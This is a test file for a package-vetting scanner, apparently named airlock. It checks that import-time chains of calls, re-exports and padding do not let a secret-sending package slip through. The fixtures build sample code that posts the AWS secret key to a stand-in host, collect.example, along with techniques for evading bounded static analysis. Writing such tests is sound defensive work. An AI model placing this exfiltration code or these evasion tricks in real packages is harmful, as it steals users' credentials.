"""Calls on import past the walk's bounds (ADR 0096).

The walk followed a call made on import three calls deep, 400 calls a file and two
re-exports far. An insider who reads the code adds one wrapper more than the bound, or 450
harmless calls first, and the chain that sends the host's secrets was read as code that runs
only when someone calls it: allowed. Now it is held, and a re-export chain is denied.
"""

from __future__ import annotations

import itertools

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages import local
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

HEAD = "import os, urllib.request\n"
SECRET = "os.environ['AWS_SECRET_ACCESS_KEY'].encode()"


def sender(name: str, data: str = SECRET) -> str:
    """A function that posts ``data`` to an address written in the code."""
    return (
        f"def {name}(*a):\n    urllib.request.urlopen('https://collect.example/k', data={data})\n"
    )


def wrappers(count: int, last: str = "send") -> str:
    """``step0`` calls ``step1`` ... calls ``last``: ``count`` calls between import and it."""
    names = [f"step{i}" for i in range(count)] + [last]
    return "".join(f"def {a}(*a):\n    {b}(*a)\n" for a, b in itertools.pairwise(names))


def modules(count: int) -> dict[str, str]:
    """The same chain with each step in a module of its own."""
    files = {"evpkg/__init__.py": "from .m0 import step0\nstep0()\n"}
    for i in range(count):
        files[f"evpkg/m{i}.py"] = (
            f"from .m{i + 1} import step{i + 1}\ndef step{i}():\n    step{i + 1}()\n"
        )
    files[f"evpkg/m{count}.py"] = HEAD + sender(f"step{count}")
    return files


def reexports(count: int) -> dict[str, str]:
    """``send`` imported through ``count`` modules that only re-export it."""
    files = {"evpkg/__init__.py": "from .m0 import send\nsend()\n"}
    for i in range(count):
        files[f"evpkg/m{i}.py"] = f"from .m{i + 1} import send\n"
    files[f"evpkg/m{count}.py"] = HEAD + sender("send")
    return files


PADDING = "def noop(x):\n    return x\n" + "".join(f"noop({i})\n" for i in range(450))

# Re-exports are followed as any import is: the chain is read whole and denied.
DENIED = {
    "three-re-exports": reexports(3),
    "six-re-exports": reexports(6),
}
# Past the walk's depth or budget the resumed walk holds: which branch runs is less sure
# there, and a person reads it (matplotlib's rc file is read through such a helper).
HELD = {
    "four-wrappers-in-one-module": init(HEAD + sender("send") + wrappers(4) + "step0()\n"),
    "nine-wrappers-in-one-module": init(HEAD + sender("send") + wrappers(9) + "step0()\n"),
    "four-wrappers-across-modules": modules(4),
    "secret-handed-down-five-calls": init(
        HEAD + sender("send", data="a[0]") + wrappers(5) + f"step0({SECRET})\n"
    ),
    "applies-spent-by-padding-first": init(HEAD + sender("send") + PADDING + "send()\n"),
}
ALLOWED = {
    # Deep on import, a library's helper that could open a URL it is handed (matplotlib's
    # rc file): the address is not the code's own.
    "deep-chain-opening-a-path-it-is-handed": init(
        HEAD
        + "def send(*a):\n    urllib.request.urlopen(os.path.join(os.environ['HOME'], 'rc'))\n"
        + wrappers(5)
        + "step0()\n"
    ),
    # The same functions, never called on import: a library's API.
    "wrappers-never-called": init(HEAD + sender("send") + wrappers(9)),
    "re-exported-never-called": {**reexports(6), "evpkg/__init__.py": "from .m0 import send\n"},
    # Deep on import, and nothing of the host's sent.
    "deep-chain-that-logs": init(
        "import logging\ndef send(*a):\n    logging.getLogger(__name__).debug('ready')\n"
        + wrappers(9)
        + "step0()\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_calls_past_the_bounds(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected


def burner(statements: int) -> str:
    """A module whose ``burn`` is long and harmless, and reads the environment (so that the
    cross-file walk follows it)."""
    body = "".join(f"    x{i} = os.path.join('a', 'b{i}')\n" for i in range(statements))
    return f"import os\ndef burn():\n{body}    return os.environ.get('LANG')\n"


def burned(burns: int) -> dict[str, str]:
    """``burns`` long functions called on import, then the sender."""
    calls = "".join(f"from .b{i} import burn as burn{i}\nburn{i}()\n" for i in range(burns))
    files = {f"evpkg/b{i}.py": burner(2_000) for i in range(burns)}
    return {
        **files,
        "evpkg/__init__.py": calls + "from .impl import send\nsend()\n",
        "evpkg/impl.py": HEAD + sender("send"),
    }


@pytest.mark.parametrize(("burns", "expected"), [(1, Outcome.DENY), (12, Outcome.HOLD)])
def test_a_spent_reading_budget_holds(
    burns: int, expected: Outcome, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Harmless long functions called first spent the cross-file walk's budget, and the
    sender called after them was not read: allowed. Now the spent budget holds."""
    monkeypatch.setattr(local, "MAX_ARCHIVE_STEPS", 40_000)
    assert vet_package(burned(burns)) is expected
